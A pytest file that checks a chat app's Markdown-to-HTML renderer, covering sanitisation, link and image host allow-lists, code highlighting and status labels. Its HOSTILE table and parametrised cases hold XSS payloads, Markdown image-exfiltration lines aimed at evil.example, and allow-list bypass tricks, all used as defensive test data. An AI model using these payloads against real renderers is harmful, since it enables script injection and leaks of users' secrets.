"""rendering.py: untrusted Markdown to sanitised HTML, and the template tags built on it."""

from __future__ import annotations

import importlib.util
import re
from datetime import timedelta
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.utils import timezone

from chatstream.models import Generation
from chatstream.templatetags.chatstream import (
    chatstream_ago,
    chatstream_markdown,
    generation_label,
)
from chatstream.web.rendering import HIGHLIGHT_LIMIT, TOKEN_CLASSES, render_markdown

# What a model may be tricked into writing.
HOSTILE = {
    "script-tag": "<script>alert(1)</script>",
    "img-onerror": '<img src=x onerror="alert(1)">',
    "svg-onload": "<svg onload=alert(1)><circle r=5></circle></svg>",
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "markdown-js-link": "[click](javascript:alert(1))",
    "markdown-js-link-mixed-case": "[click](JaVaScRiPt:alert(1))",
    "markdown-js-link-entity-tab": "[click](java&#x09;script:alert(1))",
    "markdown-js-autolink": "<javascript:alert(1)>",
    "markdown-data-link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown-vbscript-link": "[click](vbscript:msgbox(1))",
    "reference-js-link": "[click][x]\n\n[x]: javascript:alert(1)",
    "link-title-breakout": '[a](https://example.org "x\\" onmouseover=\\"alert(1)")',
    "code-info-breakout": '```" onmouseover="alert(1)\nx\n```',
    "html-block": "<div onclick=alert(1)>hi</div>",
    "style-tag": "<style>body{display:none}</style>",
    "form-tag": '<form action="https://evil.example"><button>go</button></form>',
    "object-tag": '<object data="https://evil.example/x.swf"></object>',
    "entity-encoded-script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "image-exfiltration": "![loading](https://evil.example/collect?q=SECRET)",
    "image-data-url": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "reference-image-exfiltration": "![x][i]\n\n[i]: https://evil.example/collect?q=SECRET",
    "html-comment": "<!-- <script>alert(1)</script> -->",
    "fence-info-html": "```<script>alert(1)</script>\nx\n```",
    "fence-info-quotes": '```python" onclick="alert(1)\nx = 1\n```',
    "fence-info-js-url": "```javascript:alert(1)\nx\n```",
    "fence-info-entities": "```&lt;img&#32;src=x&#32;onerror=alert(1)&gt;\nx\n```",
    "fence-code-breakout": "```python\n</code></pre><script>alert(1)</script>\n```",
    "fence-code-breakout-unknown": "```nosuchlang\n</code></pre><img src=x onerror=alert(1)>\n```",
}


class _Audit(HTMLParser):
    """Parses rendered HTML as a browser would and lists what could run or load."""

    FORBIDDEN = {"script", "iframe", "svg", "object", "embed", "style", "form", "div", "img",
                 "input", "button", "link", "meta", "base", "math"}
    OURS = {("div", "cs-code")}  # rendering.py's own wrapper of a code block

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.FORBIDDEN and (tag, dict(attrs).get("class")) not in self.OURS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.problems.append(f"{tag}[{name}]")
            if name in ("href", "src") and value is not None:
                scheme = value.strip().split(":", 1)[0].lower() if ":" in value else ""
                if scheme not in ("", "http", "https", "mailto"):
                    self.problems.append(f"{tag}[{name}={value}]")


def _danger(html: str) -> list[str]:
    audit = _Audit()
    audit.feed(html)
    audit.close()
    return audit.problems


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_renders_without_markup_that_can_run_or_load(source):
    assert _danger(render_markdown(source)) == []


def test_raw_html_is_shown_as_text_not_dropped():
    html = render_markdown("Use <b>bold</b> and <script>x()</script>")
    assert "&lt;b&gt;bold&lt;/b&gt;" in html
    assert "&lt;script&gt;x()&lt;/script&gt;" in html


def test_common_markdown_renders_code_lists_tables_and_links():
    html = render_markdown(
        "Steps:\n\n1. one\n2. two\n\n- a\n- b\n\n```python\nprint('hi')\n```\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n[docs](https://example.org/x?a=1&b=2) ~~old~~ `x`"
    )
    assert "<ol>" in html and "<li>one</li>" in html and "<ul>" in html
    assert '<pre><code class="language-python"><span class="nb">print</span>' in html
    # Alignment as a class: a style attribute would break a strict Content-Security-Policy.
    assert '<th class="cs-align-left">a</th>' in html
    assert '<td class="cs-align-right">2</td>' in html
    assert "style=" not in html
    assert '<a href="https://example.org/x?a=1&amp;b=2"' in html
    assert 'rel="nofollow noopener noreferrer"' in html and 'target="_blank"' in html
    assert "<s>old</s>" in html and "<code>x</code>" in html


def test_links_must_be_absolute_http_https_or_mailto():
    assert "href" not in render_markdown("[a](/chat/c/1/delete/)")
    assert "href" not in render_markdown("[a](//evil.example/x)")
    assert 'href="mailto:a@example.org"' in render_markdown("[a](mailto:a@example.org)")


def test_headings_are_moved_below_the_page_headings():
    html = render_markdown("# One\n\n## Two\n\n###### Six")
    assert "<h3>One</h3>" in html and "<h4>Two</h4>" in html and "<h6>Six</h6>" in html
    assert "<h1" not in html and "<h2" not in html


def test_remote_image_becomes_its_alt_text_by_default():
    html = render_markdown("![a chart](https://cdn.example/chart.png)")
    assert "<img" not in html
    assert '<span class="cs-image-alt">a chart</span>' in html


def test_image_from_an_allowed_host_loads_without_a_referrer(settings):
    settings.CHATSTREAM_ALLOWED_IMAGE_HOSTS = ["CDN.example"]
    html = render_markdown("![a chart](https://cdn.example/chart.png)")
    assert '<img src="https://cdn.example/chart.png" alt="a chart"' in html
    assert 'referrerpolicy="no-referrer"' in html


@pytest.mark.parametrize("src", [
    "https://evil.example/x.png",
    "https://cdn.example@evil.example/x.png",
    "https://evil.example@cdn.example/x.png",
    "http://cdn.example.evil.example/x.png",
    "//cdn.example/x.png",
    "data:image/png;base64,iVBORw0KGgo=",
], ids=["other-host", "userinfo-allowed", "userinfo-evil", "suffix", "scheme-relative", "data"])
def test_image_outside_the_allow_list_never_loads(settings, src):
    settings.CHATSTREAM_ALLOWED_IMAGE_HOSTS = ["cdn.example"]
    assert "<img" not in render_markdown(f"![x]({src})")


def test_code_language_class_is_kept_only_when_plain():
    assert 'class="language-c++"' in render_markdown("```c++\nint x;\n```")
    html = render_markdown('```a"b\nx\n```')
    assert "language-" not in html and "cs-code-lang" not in html


def test_markdown_filter_accepts_none():
    assert chatstream_markdown(None) == ""


@pytest.mark.parametrize(("status", "error_type", "http_status", "content", "expected"), [
    ("cancelled", "stopped_by_user", None, "partial", "Stopped by you."),
    ("cancelled", "client_disconnected", None, "partial", "the page was closed"),
    ("interrupted", "connection_lost", 200, "partial", "What arrived so far is kept"),
    ("failed", "http", 500, "", "The AI provider had a problem answering"),
    ("failed", "http", 429, "", "busy right now"),
    ("completed", "", 200, "done", ""),
    ("cancelled", "user_signed_out", None, "partial", "Stopped: you signed out."),
    ("cancelled", "user_deactivated", None, "partial", "your account was deactivated"),
    ("cancelled", "access_revoked", None, "", "you no longer have access to the chat"),
], ids=["stopped", "page-closed", "interrupted", "failed-500", "failed-429", "completed",
        "user-signed-out", "user-deactivated", "access-revoked"])
def test_generation_label_is_one_plain_sentence(status, error_type, http_status, content, expected):
    generation = Generation(status=status, error_type=error_type, http_status=http_status,
                            content=content)
    label = generation_label(generation)
    assert expected in label
    assert "<" not in label and "Error" not in label


@pytest.mark.parametrize("html", [
    '<img src="x" onerror="alert(1)">', '<a href="javascript:alert(1)">x</a>',
    '<a href=" JavaScript:alert(1)">x</a>', "<svg></svg>", '<p style="x">y</p>',
], ids=["img", "js-href", "js-href-spaced", "svg", "style"])
def test_the_audit_used_above_does_catch_live_markup(html):
    assert _danger(html)


@pytest.mark.parametrize(("ago", "expected"), [
    (timedelta(seconds=5), "just now"),
    (timedelta(minutes=5, seconds=3), "5\xa0minutes ago"),
    (timedelta(days=1, hours=2), "1\xa0day ago"),
    (timedelta(days=40), "1\xa0month ago"),
], ids=["seconds", "minutes", "day-and-hours", "weeks"])
def test_last_activity_reads_in_one_unit(ago, expected):
    assert chatstream_ago(timezone.now() - ago) == expected


def _links(html: str) -> list[str]:
    """The href of every ``<a>`` in ``html``."""
    hrefs: list[str] = []

    class Links(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            hrefs.extend(value or "" for name, value in attrs if tag == "a" and name == "href")

    Links().feed(html)
    return hrefs


@pytest.mark.parametrize(("source", "href"), [
    ("[docs](https://docs.example/x)", "https://docs.example/x"),
    ("[docs](HTTPS://DOCS.EXAMPLE/x)", "HTTPS://DOCS.EXAMPLE/x"),
    ("[docs](http://docs.example:8080/x)", "http://docs.example:8080/x"),
    ("<https://docs.example/x>", "https://docs.example/x"),
    ("[docs][r]\n\n[r]: https://docs.example/x", "https://docs.example/x"),
], ids=["allowed-host", "uppercase-host", "port", "autolink", "reference"])
def test_link_to_an_allowed_host_stays_a_link(settings, source, href):
    settings.CHATSTREAM_ALLOWED_LINK_HOSTS = ["Docs.Example"]
    html = render_markdown(source)
    assert _links(html) == [href]
    assert 'rel="nofollow noopener noreferrer"' in html


@pytest.mark.parametrize(("source", "text"), [
    ("[docs](https://evil.example/x)", "docs (https://evil.example/x)"),
    ("[docs](https://docs.example@evil.example/)", "docs (https://docs.example@evil.example/)"),
    ("[docs](https://evil.example@docs.example/)", "docs (https://evil.example@docs.example/)"),
    ("[docs](https://docs.example.evil.example/)", "docs (https://docs.example.evil.example/)"),
    ("[docs](https://sub.docs.example/)", "docs (https://sub.docs.example/)"),
    ("[docs](https://docs.example./)", "docs (https://docs.example./)"),
    # A Cyrillic o (U+043E): markdown-it writes the host in punycode, which the text then shows.
    ("[docs](https://d\u043ecs.example/)", "docs (https://xn--dcs-sed.example/)"),
    ("[docs](//docs.example/x)", "docs (//docs.example/x)"),
    ("[docs](/chat/c/1/delete/)", "docs (/chat/c/1/delete/)"),
    ("[mail](mailto:a@docs.example)", "mail (mailto:a@docs.example)"),
    ("<https://evil.example/x>", "https://evil.example/x"),
    ("[https://evil.example/x](https://evil.example/x)", "https://evil.example/x"),
    ("[*bold* docs][r]\n\n[r]: https://evil.example/x", "bold docs (https://evil.example/x)"),
], ids=["other-host", "userinfo-allowed", "userinfo-evil", "suffix", "subdomain",
        "trailing-dot", "idn-homograph", "protocol-relative", "relative", "mailto",
        "autolink", "text-is-the-url", "reference-with-emphasis"])
def test_link_outside_the_allow_list_is_shown_as_its_text_and_url(settings, source, text):
    settings.CHATSTREAM_ALLOWED_LINK_HOSTS = ["docs.example"]
    html = render_markdown(source)
    assert "<a" not in html
    assert re.sub(r"<[^>]+>", "", html).strip() == text


def test_empty_link_allow_list_allows_no_links(settings):
    settings.CHATSTREAM_ALLOWED_LINK_HOSTS = []
    html = render_markdown(
        "[a](https://example.org/) <https://example.org/> [m](mailto:a@b.example)")
    assert "<a" not in html
    assert "a (https://example.org/)" in html and "m (mailto:a@b.example)" in html


@pytest.mark.parametrize("source", [
    "[a](https://anywhere.example/x)", "<https://anywhere.example/x>", "[m](mailto:a@b.example)",
], ids=["link", "autolink", "mailto"])
def test_no_link_allow_list_links_anywhere(settings, source):
    settings.CHATSTREAM_ALLOWED_LINK_HOSTS = None
    assert len(_links(render_markdown(source))) == 1


@pytest.mark.parametrize("source", [
    "[click](javascript:alert(1))", "<javascript:alert(1)>",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
], ids=["javascript", "javascript-autolink", "data"])
@pytest.mark.parametrize("hosts", [None, [], ["docs.example"]], ids=["any", "none", "list"])
def test_script_links_stay_refused_whatever_the_link_allow_list(settings, hosts, source):
    settings.CHATSTREAM_ALLOWED_LINK_HOSTS = hosts
    html = render_markdown(source)
    assert _danger(html) == [] and _links(html) == []


# --- code blocks ------------------------------------------------------------------------------

PYTHON = 'def greet(name):\n    """Say hello."""\n    return f"Hello, {name}!"  # polite\n'


def _text(html: str) -> str:
    """What a browser shows of ``html``: its text, entities decoded."""
    return unescape(re.sub(r"<[^>]+>", "", html))


def _classes(html: str) -> set[str]:
    return {name for value in re.findall(r'class="([^"]*)"', html) for name in value.split()}


def test_python_fence_is_highlighted_with_pygments_token_classes():
    html = render_markdown(f"```python\n{PYTHON}```")
    assert '<span class="k">def</span>' in html
    assert '<span class="nf">greet</span>' in html
    assert '<span class="c1"># polite</span>' in html
    assert {"k", "nf", "sd", "sa", "s2", "si", "c1"} <= _classes(html)
    assert _classes(html) <= TOKEN_CLASSES | {"cs-code", "cs-code-lang", "language-python"}
    assert "style=" not in html


@pytest.mark.parametrize("source", [
    f"```python\n{PYTHON}```",
    "```python\n\n\n  indented first line\n\ttab\n\n```",
    "```js\nconst a = '<b>' && \"&amp;\";\n```",
    "```nosuchlang\n<b> & </b>\n```",
    f"```\n{PYTHON}```",
    "    four spaces make a code block\n      <i>kept</i>\n",
], ids=["python", "blank-lines-and-tabs", "html-in-strings", "unknown", "no-language",
        "indented"])
def test_code_text_is_kept_exactly(source):
    lines = source.splitlines(keepends=True)
    code = "".join(lines[1:-1]) if source.startswith("```") else "".join(
        line[4:] for line in lines)
    html = render_markdown(source)
    shown = re.search(r"<pre><code[^>]*>(.*)</code></pre>", html, re.S)
    assert shown and _text(shown[1]) == code


def test_fence_naming_a_language_gets_its_label_as_text():
    html = render_markdown(f"```Python extra words\n{PYTHON}```")
    assert '<span class="cs-code-lang">Python</span><pre><code class="language-Python">' in html
    assert '<span class="k">def</span>' in html  # names are matched in any case


def test_unknown_language_is_labelled_but_not_highlighted():
    html = render_markdown("```nosuchlang\nif x: pass\n```")
    assert '<span class="cs-code-lang">nosuchlang</span>' in html
    assert '<code class="language-nosuchlang">if x: pass\n</code>' in html


@pytest.mark.parametrize("source", [f"```\n{PYTHON}```", "    def f(): pass\n"],
                         ids=["fence", "indented"])
def test_code_without_a_language_is_never_guessed(source):
    html = render_markdown(source)
    assert html.startswith('<div class="cs-code"><pre><code>')
    assert "cs-code-lang" not in html and "<span" not in html


@pytest.mark.parametrize(("info", "label"), [
    ('python" onclick="alert(1)', None),
    ("<script>alert(1)</script>", None),
    ("javascript:alert(1)", None),
    ("&lt;b&gt;", None),
    ("x" * 41, None),
    ("c++", "c++"),
    ("c#", "c#"),
    ("objective-c", "objective-c"),
], ids=["quotes", "html", "js-url", "entities", "too-long", "c++", "c#", "dash"])
def test_label_shows_only_a_plain_language_name(info, label):
    html = render_markdown(f"```{info}\nx\n```")
    assert _danger(html) == []
    if label is None:
        assert "cs-code-lang" not in html and "language-" not in html
    else:
        assert f'<span class="cs-code-lang">{label}</span>' in html


def test_fenced_markup_stays_text_inside_the_code_block():
    html = render_markdown("```python\n</code></pre><script>alert(1)</script>\n```\n\nafter")
    assert _danger(html) == []
    assert html.count("</pre>") == 1 and html.endswith("</pre></div>\n<p>after</p>\n")
    assert _text(html).startswith("python</code></pre><script>alert(1)</script>\n")


def test_very_long_code_is_shown_without_highlighting():
    code = "x = 1\n" * (HIGHLIGHT_LIMIT // 6 + 1)
    html = render_markdown(f"```python\n{code}```")
    assert "<span class=\"n\">" not in html and code in _text(html)
    assert '<span class="n">x</span>' in render_markdown("```python\nx = 1\n```")


def test_token_colours_in_the_stylesheet_are_the_scripts_output():
    path = Path(__file__).resolve().parents[1] / "scripts" / "pygments_css.py"
    spec = importlib.util.spec_from_file_location("pygments_css", path)
    assert spec and spec.loader
    script = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(script)
    css = script.CSS.read_text(encoding="utf-8")
    assert script.written(css) == script.generate(), "run scripts/pygments_css.py"
    assert ".cs-code .k { color: #a90d91 }" in css  # xcode's keywords, in the light scheme
